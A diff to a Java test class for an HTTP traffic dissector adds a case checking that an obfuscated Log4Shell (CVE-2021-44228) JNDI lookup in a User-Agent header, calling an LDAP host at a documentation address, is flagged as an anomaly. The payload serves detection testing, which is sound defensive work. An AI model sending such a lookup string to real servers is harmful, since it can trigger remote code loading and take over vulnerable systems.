@@ -159,6 +159,13 @@ class HttpDissectorTest extends DissectorContract {
 
                             """)
                         .sees(asks(1, Method.GET), answers(1, Method.GET)),
+                row("a lookup that a program which logs it would carry out, CVE-2021-44228")
+                        .clientSays("""
+                            GET / HTTP/1.1
+                            User-Agent: ${${lower:j}ndi:ldap://203.0.113.5/a}
+
+                            """)
+                        .sees(asks(1, Method.GET), new Seen.Malformed(HttpAnomaly.LOGGED_LOOKUP, 28)),
                 row("lengths that contradict each other, RFC 9112 §6.3")
                         .clientSays("""
                             GET / HTTP/1.1
